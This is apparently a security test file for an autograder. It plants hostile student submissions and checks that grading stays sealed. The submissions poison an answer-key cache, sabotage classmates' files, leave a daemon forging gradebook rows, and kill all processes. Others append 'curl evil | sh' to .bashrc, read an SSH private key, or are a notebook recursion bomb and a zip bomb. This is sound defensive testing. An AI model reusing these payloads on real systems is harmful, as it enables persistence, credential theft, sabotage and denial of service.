"""`mechgrade grade` run by an ordinary (non-root) instructor on a class with hostile
submissions: each attack the red team found against the instructor's machine, in one class.

The instructor is a real unprivileged account made for this module (needs root to create
it, and user namespaces for the sandbox an ordinary user gets). Afterwards: every row is
there, each honest row equals that student's solo `check`, and the instructor's home, key
cache, the submissions and the gradebook are unchanged, with no process left behind."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import pwd
import shutil
import stat
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pytest

from attacks import DEEP_SCRATCH, deep_tree
from required import missing, needs
from mechgrade.sandbox import namespaces_work
from mechgrade.spec import load_lesson
from mechgrade.workspace import module_sources

INSTRUCTOR = f"mg-instr{os.getpid() % 100000}"  # one per test run: runs on one machine never share it
pytestmark = [
    needs("root", "creating the instructor's account needs root"),
    needs("bwrap", "bubblewrap cannot build namespaces here: an ordinary user has no sandbox"),
]


def tree_digest(root: Path) -> dict[str, str]:
    """Path -> content hash (or link target) of everything under ``root``."""
    out = {}
    for folder, dirs, files in os.walk(root):
        if len(Path(folder).relative_to(root).parts) > 20:  # the 5,000-deep submission: its top is enough
            dirs[:] = []
        for name in dirs + files:
            p = Path(folder) / name
            rel = str(p.relative_to(root))
            if p.is_symlink():
                out[rel] = "-> " + os.readlink(p)
            elif p.is_file():
                out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
            else:
                out[rel] = "dir"
    return out


@pytest.fixture(scope="module")
def instructor(tmp_path_factory):
    """(account, home, run) where run(args) runs the mechgrade CLI as the instructor."""
    home = tmp_path_factory.mktemp("instructor-home")
    subprocess.run(["userdel", INSTRUCTOR], capture_output=True)
    subprocess.run(["useradd", "--no-create-home", "--home-dir", str(home), "--shell", "/bin/sh", INSTRUCTOR], check=True)
    account = pwd.getpwnam(INSTRUCTOR)
    # The instructor must be able to run this interpreter and read the package: open the folders
    # leading to them for traversal only (o+x), for this module, and put their modes back after.
    opened = {}
    for target in (os.path.realpath(sys.executable), sys.prefix, sys.base_prefix, str(Path(__file__).parents[1])):
        for folder in [*Path(target).parents, Path(target)]:
            mode = folder.stat().st_mode
            if folder.is_dir() and not mode & stat.S_IXOTH and str(folder) not in opened:
                opened[str(folder)] = stat.S_IMODE(mode)
                folder.chmod(stat.S_IMODE(mode) | stat.S_IXOTH)
    for parent in home.parents:
        if not parent.stat().st_mode & stat.S_IXOTH and str(parent) not in opened:
            opened[str(parent)] = stat.S_IMODE(parent.stat().st_mode)
            parent.chmod(opened[str(parent)] | stat.S_IXOTH)
    os.chown(home, account.pw_uid, account.pw_gid)
    home.chmod(0o700)
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
    (home / ".bashrc").write_text("# instructor's shell\n")
    subprocess.run(["chown", "-R", f"{account.pw_uid}:{account.pw_gid}", str(home)], check=True)
    mechgrade = str(Path(sys.executable).parent / "mechgrade")
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "LANG": "C.UTF-8"}

    def run(*args: str, timeout: float = 900) -> subprocess.CompletedProcess:
        return subprocess.run(["setpriv", "--reuid", str(account.pw_uid), "--regid", str(account.pw_gid), "--init-groups",
                               mechgrade, *args], env=env, cwd=home, capture_output=True, text=True, timeout=timeout)

    probe = run("--version", timeout=60)
    if probe.returncode != 0:
        missing("root", f"the instructor account cannot run mechgrade here: {probe.stderr.strip()[-200:]}")
    yield account, home, run
    subprocess.run(["pkill", "-KILL", "-u", INSTRUCTOR], capture_output=True)
    subprocess.run(["rm", "-rf", "--one-file-system", str(home)])  # 5,000-deep: too deep for pytest's own cleanup
    for folder, mode in opened.items():
        os.chmod(folder, mode)
    subprocess.run(["userdel", INSTRUCTOR], capture_output=True)


def hostile(lesson, exercise_file: str, code: str) -> dict[str, str]:
    """A reference submission whose ``exercise_file`` also runs ``code`` at import."""
    files = module_sources(lesson, solutions=True)
    files[exercise_file] = files[exercise_file] + "\n" + textwrap.dedent(code)
    return files


def write(folder: Path, files: dict[str, str]) -> None:
    folder.mkdir(parents=True)
    for name, text in files.items():
        (folder / name).write_text(text)


ATTACKS = ("poisoner", "saboteur", "daemon", "killer", "snoop", "deepdir", "deepfolder", "nbbomb", "zipbomb")
SELECTED = set(filter(None, os.environ.get("MECHGRADE_TEST_ATTACKS", "").split(","))) or set(ATTACKS)


@pytest.fixture(scope="module")
def graded(instructor):
    """Grade the class once (as the instructor) and record what every test below inspects.
    ``MECHGRADE_TEST_ATTACKS=killer,snoop`` keeps only those attacks (to run them one by one)."""
    account, home, run = instructor
    only = SELECTED
    if not namespaces_work():
        missing("bwrap", "bubblewrap cannot create user namespaces here")
    lesson = load_lesson("lesson27")
    classroom = home / "class"
    subs, out = classroom / "submissions", classroom / "out"
    gradebook = out / "gradebook.csv"
    cache = home / ".cache" / "mechgrade"
    from mechgrade.engine.key import AnswerKey

    key_name = AnswerKey(lesson, "embedded").cache_path.name
    poisoned_key = cache / "keys" / "lesson27" / key_name
    write(subs / "a_honest", module_sources(lesson, solutions=True))
    write(subs / "z_honest", module_sources(lesson, solutions=True))
    write(subs / "poisoner", hostile(lesson, "hooks.py", f"""
        import os, pathlib
        from mechgrade.engine.codec import encode, to_bytes
        from mechgrade.spec import load_lesson
        import torch
        forged = {{c.number: {{"expected": torch.zeros(1), "mutants": {{}}}} for _, _, c in load_lesson("lesson27").iter_cases(hidden=True)}}
        try:
            p = pathlib.Path({str(poisoned_key)!r})
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_bytes(to_bytes(*encode(forged)))
            p.with_suffix(".sha256.json").write_text("{{}}")
        except OSError:
            pass
        """))
    write(subs / "saboteur", hostile(lesson, "hooks.py", f"""
        import pathlib
        for victim in pathlib.Path({str(subs)!r}).glob("*/sae.py"):
            try:
                victim.write_text("def sae_encode(*a):\\n    raise ValueError('sabotaged')\\n")
            except OSError:
                pass
        """))
    write(subs / "daemon", hostile(lesson, "hooks.py", f"""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for _ in range(9000):  # 15 minutes: longer than any grade run
                    try:
                        with open({str(gradebook)!r}, "a") as f:
                            f.write("daemon,100,100\\n")
                    except OSError:
                        pass
                    time.sleep(0.1)
            os._exit(0)
        """))
    write(subs / "killer", hostile(lesson, "dla.py", """
        import os, signal
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        """))
    write(subs / "snoop", hostile(lesson, "probe.py", f"""
        import pathlib
        try:
            with open({str(home / ".bashrc")!r}, "a") as f:
                f.write("curl evil | sh\\n")
        except OSError:
            pass
        try:
            STOLEN = pathlib.Path({str(home / ".ssh" / "id_rsa")!r}).read_text()
        except OSError:
            STOLEN = None
        if STOLEN:
            raise RuntimeError(STOLEN)
        """))
    write(subs / "deepdir", hostile(lesson, "sae.py", DEEP_SCRATCH))
    write(subs / "deepfolder", module_sources(lesson, solutions=True))
    deep_tree(subs / "deepfolder")
    (subs / "nbbomb").mkdir()
    (subs / "nbbomb" / "work.ipynb").write_text('{"nbformat": 4, "cells": ' + "[" * 100_000 + "]" * 100_000 + "}")
    with zipfile.ZipFile(subs / "zipbomb.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("hooks.py", "w", force_zip64=True) as f:
            for _ in range(1024):
                f.write(b"#" * (1 << 20))
    for attack in set(ATTACKS) - only:
        subprocess.run(["rm", "-rf", str(subs / attack), str(subs / f"{attack}.zip")])
    out.mkdir(parents=True)
    subprocess.run(["chown", "-R", f"{account.pw_uid}:{account.pw_gid}", str(classroom)], check=True)

    solo = run("check", "lesson27", "--path", str(subs / "z_honest"), "--results", str(classroom / "solo.json"))
    assert solo.returncode == 0, solo.stdout[-1500:] + solo.stderr[-1500:]
    solo_score = json.loads((classroom / "solo.json").read_text())["score"]
    (classroom / "solo.json").unlink()
    before = {"home": {k: v for k, v in tree_digest(home).items() if not k.startswith("class/out")},
              "cache": tree_digest(cache) if cache.exists() else {}}

    proc = run("grade", "lesson27", str(subs), "-o", str(gradebook), "-j", "2")
    written = gradebook.read_text() if gradebook.exists() else None
    time.sleep(3)  # a surviving daemon would be writing now
    alive = [p for p in os.listdir("/proc") if p.isdigit() and os.stat(f"/proc/{p}").st_uid == account.pw_uid
             and not Path(f"/proc/{p}/status").read_text().split("State:")[1].strip().startswith("Z")]
    after = {"home": {k: v for k, v in tree_digest(home).items() if not k.startswith("class/out")},
             "cache": tree_digest(cache) if cache.exists() else {}}
    results = "".join(p.read_text() for p in (out / "gradebook_results").glob("*.json")) if (out / "gradebook_results").exists() else ""
    again = run("check", "lesson27", "--path", str(subs / "a_honest"))
    return {"proc": proc, "written": written, "now": gradebook.read_text() if gradebook.exists() else None,
            "alive": alive, "before": before, "after": after, "results": results, "solo": solo_score, "again": again,
            "rows": {r["student"]: r for r in csv.DictReader((written or "").splitlines())}, "only": only, "home": home}


def attack(name: str):
    return pytest.mark.skipif(name not in SELECTED, reason=f"MECHGRADE_TEST_ATTACKS leaves out {name}")


def test_every_student_gets_a_row_and_honest_rows_equal_a_solo_check(graded):
    """kill(-1) from a submission cannot take `grade` (or anything else of the instructor's) down."""
    assert graded["proc"].returncode == 0, graded["proc"].stdout[-1500:] + graded["proc"].stderr[-1500:]
    assert set(graded["rows"]) == {"a_honest", "z_honest"} | graded["only"]
    public = sum(c.points for _, _, c in load_lesson("lesson27").iter_cases())
    assert float(graded["rows"]["a_honest"]["total"]) == float(graded["rows"]["z_honest"]["total"]) == graded["solo"] == public


@attack("poisoner")
def test_the_key_cache_cannot_be_poisoned(graded):
    assert graded["after"]["cache"] == graded["before"]["cache"], "the instructor's key cache changed"
    public = sum(c.points for _, _, c in load_lesson("lesson27").iter_cases())
    assert graded["again"].returncode == 0 and f"{public:g} / {public:g}" in graded["again"].stdout, graded["again"].stdout[-800:]


@attack("saboteur")
def test_a_classmate_cannot_be_sabotaged(graded):
    changed = {k for k in graded["after"]["home"] if graded["after"]["home"][k] != graded["before"]["home"].get(k)}
    assert not {k for k in changed if k.startswith("class/submissions")}, changed
    assert float(graded["rows"]["z_honest"]["total"]) == graded["solo"]


@attack("daemon")
def test_no_process_outlives_grade(graded):
    assert not graded["alive"], f"processes of the instructor survived grade: {graded['alive']}"
    assert graded["now"] == graded["written"], "the gradebook changed after grade exited"


@attack("snoop")
def test_the_instructors_files_stay_unread_and_unchanged(graded):
    assert "PRIVATE KEY" not in graded["results"]
    assert graded["after"]["home"] == graded["before"]["home"], "the instructor's home changed"


@attack("deepdir")
def test_a_5000_deep_scratch_folder_costs_nothing(graded):
    assert graded["rows"]["deepdir"]["status"] == "graded" and float(graded["rows"]["deepdir"]["total"]) == graded["solo"]


@attack("deepfolder")
def test_a_5000_deep_submission_folder_is_graded(graded):
    assert graded["rows"]["deepfolder"]["status"] == "graded" and float(graded["rows"]["deepfolder"]["total"]) == graded["solo"]


@attack("nbbomb")
def test_a_recursion_bomb_notebook_is_its_own_row(graded):
    assert "nested too deeply" in graded["rows"]["nbbomb"]["status"]


@attack("zipbomb")
def test_a_zip_bomb_is_refused(graded):
    assert "too large" in graded["rows"]["zipbomb"]["status"]


def test_an_ordinary_users_grade_seals_each_student_in(instructor, reference_ws, stub_ws):
    """The donor and the stub receiver of tests/test_sealed_rooms.py, graded by the ordinary
    instructor (namespaces alone: every fork's room is made in a user namespace of its own)."""
    from leaks import DONOR, RECEIVER, TEMPFILES, with_tail

    account, home, run = instructor
    classroom = home / "donor-class"
    with_tail(shutil.copytree(reference_ws, classroom / "a_donor"), DONOR)
    with_tail(classroom / "a_donor", TEMPFILES, modules=("hooks",))
    with_tail(shutil.copytree(stub_ws, classroom / "b_receiver"), RECEIVER)
    subprocess.run(["chown", "-R", f"{account.pw_uid}:{account.pw_gid}", str(classroom)], check=True)
    gradebook = home / "donor-out" / "gradebook.csv"
    proc = run("grade", "lesson27", str(classroom), "-o", str(gradebook), "-j", "1", "--hidden")
    assert proc.returncode == 0, proc.stderr[-2000:]
    rows = {r["student"]: r for r in csv.DictReader(gradebook.read_text().splitlines())}
    assert float(rows["a_donor"]["total"]) == 100
    assert float(rows["b_receiver"]["total"]) == 0, "the receiver scored from the donor's outputs"
